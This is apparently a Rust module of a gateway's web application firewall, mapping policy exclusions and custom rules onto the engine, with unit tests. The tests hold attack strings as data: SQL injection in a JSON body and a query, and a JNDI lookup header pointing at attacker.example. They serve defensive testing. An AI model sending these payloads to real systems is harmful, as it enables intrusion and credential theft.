//! The inspect phase's firewall: the waf crate's engine, built once per policy version from
//! the policy's `[waf]` section, and the mapping of the policy's words onto the engine's.
//!
//! The policy scopes exclusions by department and path prefix; the engine knows only
//! locations. So each policy exclusion becomes engine exclusions kept beside their scope, and
//! the ones whose scope matches a request are handed to the engine with that request.

use wardgate_policy::{InputLocation, Waf, WafExclusion, WafMode, WafSettings};
use wardgate_waf::{
    CustomRule, Engine, EngineConfig, Exclusion, Header, HitClass, HttpRequest, Mode, RouteContext,
    RuleAction, RulePattern, Verdict,
};

use crate::exchange::WafRecord;

/// Policy exclusions, as engine exclusions with the department and path they apply to.
struct ScopedExclusion {
    department: Option<String>,
    path_prefix: String,
    exclusions: Vec<Exclusion>,
}

/// The firewall of one policy version.
pub(crate) struct Firewall {
    engine: Engine,
    scoped: Vec<ScopedExclusion>,
}

/// What one request looks like to the firewall, borrowed from the gateway's buffers.
pub(crate) struct Inspected<'a> {
    /// The method.
    pub method: &'a str,
    /// The path as received.
    pub path: &'a str,
    /// The query as received.
    pub query: Option<&'a str>,
    /// The request headers.
    pub headers: &'a http::HeaderMap,
    /// Whether authenticate verified the `Authorization` header (see [`headers_to_inspect`]).
    pub verified_authorization: bool,
    /// The buffered body (empty when the body streams: see `body.rs`).
    pub body: &'a [u8],
}

/// Where the request goes, as far as the firewall cares.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Placement<'a> {
    /// The department, if the path has one.
    pub department: Option<&'a str>,
    /// Mode and paranoia in effect.
    pub settings: WafSettings,
    /// Whether the path is on a FHIR base.
    pub fhir: bool,
}

impl Firewall {
    /// Build the firewall from the policy's `[waf]` section. The policy has been validated;
    /// a pattern the engine still refuses is logged and left out rather than stopping the
    /// gateway.
    pub(crate) fn from_policy(waf: &Waf) -> Firewall {
        let mut custom_rules = Vec::new();
        for rule in &waf.rules {
            custom_rules.extend(engine_rules(rule));
        }
        let config = EngineConfig {
            custom_rules,
            ..EngineConfig::default()
        };
        let scoped = waf.exclusions.iter().filter_map(scoped_exclusion).collect();
        Firewall {
            engine: Engine::new(config),
            scoped,
        }
    }

    /// Inspect one request; `None` when the WAF is off on its route.
    pub(crate) fn inspect(
        &self,
        request: &Inspected<'_>,
        placement: Placement<'_>,
    ) -> Option<Verdict> {
        let mode = match placement.settings.mode {
            WafMode::Off => return None,
            WafMode::Block => Mode::Block,
            WafMode::Detect => Mode::DetectOnly,
        };
        let headers = headers_to_inspect(request.headers, request.verified_authorization);
        let content_type = request
            .headers
            .get(http::header::CONTENT_TYPE)
            .and_then(|v| v.to_str().ok());
        let exclusions: Vec<Exclusion> = self
            .scoped
            .iter()
            .filter(|s| s.department.is_none() || s.department.as_deref() == placement.department)
            .filter(|s| request.path.starts_with(&s.path_prefix))
            .flat_map(|s| s.exclusions.iter().cloned())
            .collect();
        let route = RouteContext {
            paranoia: placement.settings.paranoia,
            fhir: placement.fhir,
            mode: Some(mode),
            exclusions: &exclusions,
            ..RouteContext::default()
        };
        let mut verdict = self.engine.inspect(
            &HttpRequest {
                method: request.method,
                path: request.path,
                query: request.query,
                headers: &headers,
                body: request.body,
                content_type,
            },
            &route,
        );
        // A policy rule with `action = "block"` blocks "whatever the WAF mode" (policy.md):
        // detect mode only softens the detectors' findings.
        if mode == Mode::DetectOnly
            && verdict.allowed_by.is_none()
            && verdict
                .hits
                .iter()
                .any(|h| h.class == HitClass::Custom && u32::from(h.score) >= verdict.threshold)
        {
            verdict.action = wardgate_waf::Action::Block;
        }
        Some(verdict)
    }
}

/// The headers the firewall reads, in the order received. A verified `Authorization` header
/// (a bearer token whose signature, issuer and audience authenticate checked) is a
/// credential, not client data, and scanning its ~1 KB of base64 with every detector was the
/// costliest part of inspecting a typical request: it is left out when it is the only one
/// (authenticate reads the first; with several, the others were never verified and all are
/// read). It still goes to the department.
fn headers_to_inspect(headers: &http::HeaderMap, verified_authorization: bool) -> Vec<Header<'_>> {
    let mut inspected = Vec::with_capacity(headers.len());
    let mut authorizations = 0;
    let mut authorization_at = 0;
    for (name, value) in headers {
        if name == http::header::AUTHORIZATION {
            authorizations += 1;
            authorization_at = inspected.len();
        }
        inspected.push(Header {
            name: name.as_str(),
            value: value.as_bytes(),
        });
    }
    if verified_authorization && authorizations == 1 {
        inspected.remove(authorization_at);
    }
    inspected
}

/// The record of a verdict: the top finding with its bounded excerpt, never the payload.
pub(crate) fn record_of(verdict: &Verdict) -> WafRecord {
    let outcome = if verdict.is_blocked() {
        "blocked"
    } else if verdict.reaches_threshold() {
        "detected"
    } else {
        "allowed"
    };
    let top = verdict.top_hit();
    WafRecord {
        outcome,
        mode: verdict.mode.name(),
        score: verdict.score,
        threshold: verdict.threshold,
        rule: top.map(|h| h.rule.to_string()),
        class: top.map(|h| h.class.name()),
        location: top.map(|h| h.location.clone()),
        excerpt: top.map(|h| h.excerpt.clone()),
        findings: verdict.hits.len(),
        allowed_by: verdict.allowed_by.clone(),
    }
}

/// The engine's location patterns for a policy location. One policy location may cover
/// several kinds of engine location (`body` is JSON members, form fields, multipart parts
/// and XML nodes alike).
fn location_patterns(location: &InputLocation) -> Vec<String> {
    match location {
        InputLocation::Path => vec!["path".into(), "path[*]".into()],
        InputLocation::Query(None) => vec!["query:**".into(), "query-name:**".into()],
        InputLocation::Query(Some(name)) => vec![format!("query:{name}")],
        InputLocation::Header(None) => vec!["header:**".into()],
        InputLocation::Header(Some(name)) => vec![format!("header:{name}")],
        InputLocation::Cookie(None) => vec!["cookie:**".into(), "cookie-name:**".into()],
        InputLocation::Cookie(Some(name)) => vec![format!("cookie:{name}")],
        InputLocation::Body(None) => [
            "body",
            "body:**",
            "body-key:**",
            "form:**",
            "form-name:**",
            "multipart**",
            "xml:**",
        ]
        .map(str::to_owned)
        .to_vec(),
        // A JSON path; its members below it too (`body:$.data` covers `body:$.data[0].x`).
        InputLocation::Body(Some(path)) => vec![format!("body:{path}"), format!("body:{path}**")],
    }
}

fn scoped_exclusion(exclusion: &WafExclusion) -> Option<ScopedExclusion> {
    let detectors: Vec<&str> = exclusion
        .detectors
        .iter()
        .map(String::as_str)
        .filter(|d| *d != "all")
        .collect();
    // `all` anywhere in the list switches every detector off there.
    let detectors: &[&str] = if exclusion.detectors.iter().any(|d| d == "all") {
        &[]
    } else {
        &detectors
    };
    let mut exclusions = Vec::new();
    for pattern in location_patterns(&exclusion.location) {
        match Exclusion::new(Some(&pattern), detectors) {
            Ok(e) => exclusions.push(e),
            Err(error) => {
                tracing::error!(%error, pattern, "WAF exclusion left out");
            }
        }
    }
    (!exclusions.is_empty()).then(|| ScopedExclusion {
        department: exclusion.department.clone(),
        path_prefix: exclusion.path_prefix.clone(),
        exclusions,
    })
}

/// The engine rules of one policy rule (one per engine location it covers).
fn engine_rules(rule: &wardgate_policy::CustomRule) -> Vec<CustomRule> {
    let action = match rule.action {
        wardgate_policy::RuleAction::Block => RuleAction::Block,
        // A hit in the verdict and the audit record that scores nothing.
        wardgate_policy::RuleAction::Log => RuleAction::Log,
    };
    let build = |location: Option<&str>| -> Result<CustomRule, wardgate_waf::RuleError> {
        let methods: Vec<&str> = rule.methods.iter().map(String::as_str).collect();
        let mut built = CustomRule::new(&rule.id, action)?.with_methods(&methods);
        if let Some(prefix) = &rule.path_prefix {
            built = built.with_path_prefix(prefix);
        }
        if let Some(location) = location {
            built = built.with_location(location)?;
        }
        if let Some(pattern) = &rule.pattern {
            built = built.with_pattern(RulePattern::regex(pattern)?);
        }
        Ok(built)
    };
    let built: Vec<Result<CustomRule, _>> = match &rule.location {
        None => vec![build(None)],
        Some(location) => location_patterns(location)
            .iter()
            .map(|p| build(Some(p)))
            .collect(),
    };
    built
        .into_iter()
        .filter_map(|r| {
            r.map_err(|error| tracing::error!(%error, rule = rule.id, "WAF rule left out"))
                .ok()
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn waf(text: &str) -> Waf {
        let policy = format!(
            "version = 1\n[departments.record]\nprefix = \"/record/\"\nupstream = \"builtin\"\n{text}"
        );
        match wardgate_policy::Policy::parse(&policy, std::path::Path::new("t.toml")) {
            Ok(validated) => validated.policy.waf,
            Err(d) => panic!("{d:#?}"),
        }
    }

    fn request<'a>(
        path: &'a str,
        query: Option<&'a str>,
        headers: &'a http::HeaderMap,
        body: &'a [u8],
    ) -> Inspected<'a> {
        Inspected {
            method: "POST",
            path,
            query,
            headers,
            verified_authorization: false,
            body,
        }
    }

    const BLOCK: WafSettings = WafSettings {
        mode: WafMode::Block,
        paranoia: 1,
    };

    fn placement(department: Option<&str>) -> Placement<'_> {
        Placement {
            department,
            settings: BLOCK,
            fhir: false,
        }
    }

    #[test]
    fn an_exclusion_applies_in_its_department_and_path_only() {
        let firewall = Firewall::from_policy(&waf(
            "[[waf.exclusions]]\ndepartment = \"record\"\npath_prefix = \"/record/notes\"\n\
             location = \"body:$.text\"\ndetectors = [\"sqli\"]\n",
        ));
        let mut headers = http::HeaderMap::new();
        headers.insert("content-type", "application/json".parse().unwrap());
        let body = br#"{"text":"1' UNION SELECT password FROM users--"}"#;
        let excluded = firewall
            .inspect(
                &request("/record/notes", None, &headers, body),
                placement(Some("record")),
            )
            .unwrap();
        assert!(!excluded.is_blocked(), "{}", excluded.explain());
        let elsewhere = firewall
            .inspect(
                &request("/record/other", None, &headers, body),
                placement(Some("record")),
            )
            .unwrap();
        assert!(elsewhere.is_blocked());
    }

    #[test]
    fn a_blocking_custom_rule_blocks_in_detect_mode_and_off_means_no_inspection() {
        let firewall = Firewall::from_policy(&waf(
            "[[waf.rules]]\nid = \"vp-1\"\npath_prefix = \"/record/legacy\"\naction = \"block\"\n",
        ));
        let headers = http::HeaderMap::new();
        let detect = Placement {
            settings: WafSettings {
                mode: WafMode::Detect,
                paranoia: 1,
            },
            ..placement(Some("record"))
        };
        let verdict = firewall
            .inspect(&request("/record/legacy/x", None, &headers, b""), detect)
            .unwrap();
        assert!(verdict.is_blocked());
        assert_eq!(record_of(&verdict).rule.as_deref(), Some("custom.vp-1"));
        let off = Placement {
            settings: WafSettings {
                mode: WafMode::Off,
                paranoia: 1,
            },
            ..placement(None)
        };
        assert!(
            firewall
                .inspect(&request("/record/legacy/x", None, &headers, b""), off)
                .is_none()
        );
    }

    #[test]
    fn detect_mode_records_what_it_would_have_blocked() {
        let firewall = Firewall::from_policy(&Waf::default());
        let headers = http::HeaderMap::new();
        let detect = Placement {
            settings: WafSettings {
                mode: WafMode::Detect,
                paranoia: 1,
            },
            ..placement(None)
        };
        let verdict = firewall
            .inspect(
                &request("/x", Some("id=1%27%20OR%20%271%27%3D%271"), &headers, b""),
                detect,
            )
            .unwrap();
        assert!(!verdict.is_blocked());
        let record = record_of(&verdict);
        assert_eq!(record.outcome, "detected");
        assert_eq!(record.class, Some("sqli"));
        assert_eq!(record.location.as_deref(), Some("query:id"));
    }

    #[test]
    fn only_a_single_verified_token_is_kept_from_the_firewall() {
        let names = |headers: &[Header<'_>]| -> Vec<(String, Vec<u8>)> {
            headers
                .iter()
                .map(|h| (h.name.to_owned(), h.value.to_vec()))
                .collect()
        };
        let mut headers = http::HeaderMap::new();
        headers.insert(
            http::header::ACCEPT,
            http::HeaderValue::from_static("application/fhir+json"),
        );
        headers.insert(
            http::header::AUTHORIZATION,
            http::HeaderValue::from_static("Bearer eyJ.verified.sig"),
        );
        headers.insert("x-trace", http::HeaderValue::from_static("1"));
        let all = names(&headers_to_inspect(&headers, false));
        assert_eq!(all.len(), 3);
        assert_eq!(all[1].0, "authorization");

        // The one header authenticate verified: left out, nothing else.
        let inspected = names(&headers_to_inspect(&headers, true));
        assert_eq!(inspected, [all[0].clone(), all[2].clone()]);

        // A second Authorization header was never verified: both are inspected.
        headers.append(
            http::header::AUTHORIZATION,
            http::HeaderValue::from_static("${jndi:ldap://attacker.example/a}"),
        );
        let inspected = names(&headers_to_inspect(&headers, true));
        assert_eq!(inspected.len(), 4);
        assert!(
            inspected
                .iter()
                .any(|(name, value)| name == "authorization" && value.starts_with(b"${jndi"))
        );

        // And the firewall sees it: an attack in an unverified second header still blocks.
        let firewall = Firewall::from_policy(&Waf::default());
        let verdict = firewall
            .inspect(
                &Inspected {
                    verified_authorization: true,
                    ..request("/record/x", None, &headers, b"")
                },
                placement(Some("record")),
            )
            .unwrap();
        assert!(verdict.is_blocked(), "{}", verdict.explain());
    }
}
